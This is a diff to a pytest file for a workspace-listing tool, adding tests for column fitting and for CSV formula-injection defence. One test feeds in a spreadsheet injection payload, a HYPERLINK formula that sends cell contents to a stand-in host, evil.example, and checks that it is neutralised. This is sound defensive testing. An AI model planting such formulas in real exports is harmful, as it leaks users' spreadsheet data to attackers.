@@ -115,7 +115,8 @@ def test_narrow_terminal_hides_low_priority_columns_instead_of_folding(
     assert "ws_one" in text and "****1234" in text
 
 
-def test_long_values_are_not_truncated_in_a_pipe() -> None:
+def test_long_values_are_not_truncated_in_a_pipe(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.delenv("COLUMNS", raising=False)
     stream = io.StringIO()
     long_rg = "rg-" + "x" * 150
     workspace_output.print_rows(
@@ -198,3 +199,56 @@ def test_piped_table_has_the_layout_rich_would_draw() -> None:
         console.print(table)
     expected = "".join(line.rstrip() + "\n" for line in captured.get().splitlines())
     assert stream.getvalue() == expected
+
+
+@pytest.mark.parametrize(
+    "value",
+    ['=HYPERLINK("https://evil.example/?"&A2,"details")', "@SUM(1+1)", "+1", "-1+2", "=1"],
+)
+def test_csv_cells_that_would_start_a_formula_are_neutralised(value: str) -> None:
+    stream = io.StringIO()
+    workspace_output.print_rows(
+        [_row(description=value, display_name=value)], 1, "csv", stream, region="r"
+    )
+    header, row = list(csv.reader(io.StringIO(stream.getvalue())))
+    record = dict(zip(header, row, strict=True))
+    assert record["Description"] == "'" + value and record["Display Name"] == "'" + value
+
+
+def test_json_keeps_formula_like_values_as_they_are() -> None:
+    stream = io.StringIO()
+    workspace_output.print_rows([_row(description="=1+1")], 1, "json", stream, region="r")
+    assert json.loads(stream.getvalue())["Workspaces"][0]["Description"] == "=1+1"
+
+
+@pytest.mark.parametrize("tty", [True, False], ids=["terminal", "pipe"])
+def test_tables_fit_columns_and_never_wrap_a_row(
+    monkeypatch: pytest.MonkeyPatch, tty: bool
+) -> None:
+    """Issue #14: COLUMNS=80 is honoured on a terminal and in a pipe alike; Name and Status stay
+    whole, long text is cut with an ellipsis, nothing wraps."""
+    monkeypatch.setenv("COLUMNS", "80")
+    stream: io.StringIO = _Tty() if tty else io.StringIO()
+    rows = [
+        _row(name="initialising_ws", status="INITIALIZING", display_name="自然语言处理" * 6),
+        _row(name="failed_ws_name_23chars", status="FAILURE", description="d" * 300),
+    ]
+    workspace_output.print_rows(rows, 2, "table", stream, region="cn-hangzhou")
+    lines = re.sub(r"\x1b\[[0-9;]*m", "", stream.getvalue()).splitlines()
+    from rich.cells import cell_len
+
+    table = [line for line in lines if not line.startswith("(Hidden")]
+    assert all(cell_len(line) <= 80 for line in table), max(cell_len(line) for line in table)
+    text = "\n".join(table)
+    for whole in ("initialising_ws", "INITIALIZING", "failed_ws_name_23chars", "FAILURE"):
+        assert whole in text
+
+
+def test_wide_prints_every_column_whole(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("COLUMNS", "80")
+    stream = io.StringIO()
+    long_rg = "rg-" + "x" * 150
+    workspace_output.print_rows(
+        [_row(resource_group=long_rg)], 1, "table", stream, region="r", wide=True
+    )
+    assert long_rg in stream.getvalue() and "Hidden" not in stream.getvalue()
